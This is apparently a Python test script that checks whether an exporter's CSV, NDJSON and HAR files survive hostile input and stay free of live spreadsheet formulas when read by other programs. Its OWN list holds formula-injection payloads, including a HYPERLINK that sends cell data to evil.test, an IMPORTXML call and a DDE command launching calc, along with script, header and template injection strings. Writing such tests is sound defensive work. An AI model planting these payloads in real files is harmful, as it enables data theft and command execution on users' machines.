"""Has other programs read the files that Spoor writes: Python's csv, DuckDB, LibreOffice, a JSON parser and the schema of HAR.

Usage: check.py EXPORTER OUT NODE_SCRIPT [SHARED]. EXPORTER writes files of the texts on its standard input, OUT is a folder for
them, NODE_SCRIPT validates HAR files. SHARED holds more hostile texts and csv_oracle.py, which opens a file in LibreOffice; what
needs it is skipped without.

How a text is given back is written here anew, from docs/downloads.md and not from Spoor's code.
"""

import concurrent.futures
import csv
import io
import json
import pathlib
import re
import subprocess
import sys
import unicodedata

import duckdb
import yaml

# Texts that were written to do harm in a spreadsheet, and texts that must not be harmed.
OWN = """
=1+1|+1+1|-1+1|@SUM(A1)|\t=1+1|\r=1+1|\n=1+1| =1+1|＝1+1|＋1|－1|＠SUM(1)|\0=1+1|\ufeff=1+1|\u200b=1+1|\u202e=1+1|\u00a0=1+1
\x1b=1|a",=1+1,"b|a;=1+1|x\t=1+1|x\r\n=4+4|x\n"=1+1"|"=1+1"|'=1+1|''=1|'|"|""|\\|\\\\n|\\x00|=HYPERLINK("https://evil.test/?"&A1,"x")
=IMPORTXML("https://evil.test")|=cmd!A0|-5|+49 30 123|1e5|0012|1/2|TRUE|\\"=1|;=1|x; =1|x;"=1"|x;'=1|\ud7ff|\U0001f600 ملف שלום
../../x|a"\r\nSet-Cookie: x|<script>alert(1)</script>|{{7*7}}|${7*7}|\u2028=1|\u2060@x|\u034f=1|\ufe0f=1|\u3164=1|\U000e0041=1|\x85=1|\x7f=1
'\u200b=1|'"=1|"'=1|\\=1|\\t=1|x|x\\|\\x3b=1|a\x0b=1|\x0c=1|%3D1|&#61;1|{=1}|[=1]|=|+|-|@|==|'=|';|;|;;=|; |,|,=1|\r\n|\n\n=|	|
""".strip("\n").replace("\n", "|").split("|") + ["|=1", "x|=7+7", "a | @x", "=cmd|' /C calc'!A0", "x" * 40_000, "=" + "x" * 40_000]

COUNTS = {"passed": 0, "failed": 0, "skipped": 0}


def check(what, fault):
    """Counts a check: `fault` says what is wrong, and is empty where nothing is."""
    COUNTS["failed" if fault else "passed"] += 1
    print(f"test {what} ... {'FAILED: ' + str(fault)[:2000] if fault else 'ok'}")


def skip(what, why):
    COUNTS["skipped"] += 1
    print(f"test {what} ... skipped: {why}")


def is_passed_over(character):
    """White space and what nobody sees, but for control characters."""
    ignorable = [(0x34F, 0x34F), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x2800, 0x2800), (0x3164, 0x3164),
                 (0xFE00, 0xFE0F), (0xFFA0, 0xFFA0), (0xFFF0, 0xFFFB), (0xE0000, 0xE0FFF), (0x2060, 0x206F)]
    category = unicodedata.category(character)
    if category == "Cc":
        return False
    return category in ("Zs", "Zl", "Zp", "Cf") or any(a <= ord(character) <= b for a, b in ignorable)


def is_formula(text):
    """True where a spreadsheet could run a text, also behind blanks and quotes."""
    for character in text:
        if not is_passed_over(character) and character not in "'\"":
            return character in "=+-@＝＋－＠"
    return False


def unescaped(cell):
    """The text of a cell of a file for spreadsheets."""
    if cell.startswith("'") and is_formula(cell[1:]):
        cell = cell[1:]
    plain = {"n": "\n", "r": "\r", "t": "\t"}

    def one(match):
        sign = match.group(1)
        return chr(int(sign[1:], 16)) if sign[0] == "x" and len(sign) == 3 else plain.get(sign, sign)

    return re.sub(r"\\(x[0-9a-f]{2}|.)", one, cell, flags=re.DOTALL)


def strings(value):
    """All texts within what a YAML file holds."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


def payloads(folder):
    """The payloads of attacks in a folder: every text of its YAML files, and the first column of its CSV files."""
    for path in sorted(folder.rglob("*")):
        if path.suffix in (".yaml", ".yml"):
            text = path.read_text("utf-8", "replace")
            try:
                for document in yaml.load_all(text, getattr(yaml, "CSafeLoader", yaml.SafeLoader)):
                    yield from strings(document)
            except yaml.YAMLError:
                # Some break the rules of YAML on purpose: their lines are texts as good as any.
                yield from text.splitlines()
        elif path.suffix == ".csv":
            with path.open(encoding="utf-8", errors="replace", newline="") as file:
                yield from (row[0] for row in csv.reader(file) if row)


def read_by_python(path):
    text = path.read_bytes().decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def read_by_duckdb(path):
    query = "SELECT * FROM read_csv(?, all_varchar = true, header = true, delim = ',', quote = '\"', escape = '\"', max_line_size = 20000000)"
    relation = duckdb.execute(query, [str(path)])
    return [[column[0] for column in relation.description]] + [
        ["" if cell is None else cell for cell in row] for row in relation.fetchall()
    ]


def first_difference(rows, columns, texts, given_back):
    """The first cell among `columns` (by name, with what stands around a text in it) that does not give its text back."""
    if len(rows) != len(texts) + 1:
        return f"{len(rows) - 1} rows instead of {len(texts)}"
    for number, (row, text) in enumerate(zip(rows[1:], texts)):
        if len(row) != len(rows[0]):
            return f"row {number} has {len(row)} cells instead of {len(rows[0])}"
        for name, around in columns.items():
            cell = row[rows[0].index(name)]
            if given_back(cell) != around.format(text) if "{}" in around else given_back(cell) != text:
                return f"row {number}, {name}: {cell!r} does not give back {text!r}"
    return ""


REQUESTS = {name: "" for name in ("application", "api_host", "method", "endpoint", "path", "business_flows", "user", "role",
                                  "user_ip", "country", "network", "attack_types", "user_agent")} | {"session_parameters": "email={}"}
SESSIONS = {name: "" for name in ("session_id", "session_key", "users", "roles", "user_ips", "countries", "networks", "api_hosts",
                                  "business_flows", "attack_types", "endpoints")}


def csv_files(out, name, texts, opened):
    for kind, columns in (("requests", REQUESTS), ("sessions", SESSIONS)):
        safe, raw = out / f"{kind}.csv", out / f"{kind}_raw.csv"
        for reader in (read_by_python, read_by_duckdb):
            by = f"{reader.__name__.removeprefix('read_by_')} reads {kind} of {name}"
            try:
                check(f"{by} for spreadsheets", first_difference(reader(safe), columns, texts, unescaped))
            except Exception as error:
                check(f"{by} for spreadsheets", repr(error))
            try:
                check(f"{by} for scripts", first_difference(reader(raw), columns, texts, lambda cell: cell))
            except Exception as error:
                check(f"{by} for scripts", repr(error))
        lines = safe.read_bytes()
        check(f"{kind} of {name} have a line for each row and no control character",
              "" if lines.count(b"\r\n") == len(texts) + 1 and not re.search(rb"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]", lines)
              and lines.count(b"\n") == len(texts) + 1 else "other lines")
        if opened is not None:
            opened[f"LibreOffice finds no formula in {kind} of {name}"] = safe


def json_files(out, name, texts, node_script):
    lines = (out / "requests.ndjson").read_text("utf-8").split("\n")
    requests = [json.loads(line) for line in lines[:-1]]
    wrong = [text for text, request in zip(texts, requests) if (request.get("path", ""), request["user"]) != (text, text)]
    check(f"every line of NDJSON of {name} is JSON with its texts", wrong[:3] or len(requests) - len(texts))
    archives = [out / "requests.har", out / "requests_redacted.har"]
    ran = subprocess.run(["node", node_script, *archives], capture_output=True, text=True)
    check(f"HAR of {name} is valid by its schema", ran.stdout + ran.stderr if ran.returncode else "")
    entries = json.loads(archives[0].read_text("utf-8"))["log"]["entries"]
    known = [text for number, text in enumerate(texts) if number % 3 < 2]
    wrong = [text for text, entry in zip(known, entries)
             if (entry["request"]["postData"]["text"], entry["_spoor"].get("path", "")) != (text, text)]
    check(f"HAR of {name} has an entry for each full text", wrong[:3] or len(known) - len(entries))
    redacted = json.loads(archives[1].read_text("utf-8"))["log"]["entries"]
    pseudonyms = {}
    for text, entry in zip(known, redacted):
        pseudonyms.setdefault(text, set()).add(entry["_spoor"]["parameters"][0]["value"])
    several = [text for text, names in pseudonyms.items() if text and len(names) > 1]
    shared = len(pseudonyms) - len({name for names in pseudonyms.values() for name in names})
    check(f"a value of {name} has one pseudonym, and no other value has it", several[:3] or shared)


def main():
    exporter, out, node_script = sys.argv[1], pathlib.Path(sys.argv[2]), sys.argv[3]
    shared = pathlib.Path(sys.argv[4]) if len(sys.argv) > 4 else None
    csv.field_size_limit(1 << 30)
    sets = {"no texts": [], "hostile texts": OWN}
    oracle, opened = None, {}
    if shared:
        sets["hostile texts"] = OWN + json.loads((shared / "tools" / "hostile_cells.json").read_text("utf-8"))
        sets["attacks"] = list(payloads(shared / "data" / "attacks"))
        oracle = shared / "tools" / "csv_oracle.py"
    else:
        skip("LibreOffice finds no formula", "../shared, which has csv_oracle.py, is not there")
        skip("other programs read the payloads of real attacks", "../shared is not there")
    for name, texts in sets.items():
        # Each text once; lone surrogates cannot be in a text of Spoor's.
        texts = list(dict.fromkeys(text.encode("utf-8", "replace").decode("utf-8") for text in texts))
        folder = out / name.replace(" ", "_")
        folder.mkdir(parents=True, exist_ok=True)
        subprocess.run([exporter, folder], input=json.dumps(texts).encode(), check=True)
        print(f"{name}: {len(texts)}")
        csv_files(folder, name, texts, opened if oracle and texts else None)
        json_files(folder, name, texts, node_script)
    if oracle:
        raw = "LibreOffice does find formulas in raw values, so that it would in others"
        opened[raw] = out / "hostile_texts" / "requests_raw.csv"
        # Each starts LibreOffice three times, which takes a second or two even for the smallest file.
        with concurrent.futures.ThreadPoolExecutor(2) as two:
            runs = list(two.map(lambda path: subprocess.run([sys.executable, oracle, path], capture_output=True, text=True), opened.values()))
        for what, ran in zip(opened, runs):
            none = ran.returncode == 0 and ran.stdout.count("formulas: 0") == 3
            found = "'=1+1'" in ran.stdout or "of:=1+1" in ran.stdout
            check(what, "" if (found if what == raw else none) else ran.stdout + ran.stderr)
    result = "ok" if COUNTS["failed"] == 0 else "FAILED"
    print(f"\ntest result: {result}. {COUNTS['passed']} passed; {COUNTS['failed']} failed; {COUNTS['skipped']} ignored; 0 measured")
    return 1 if COUNTS["failed"] else 0


sys.exit(main())
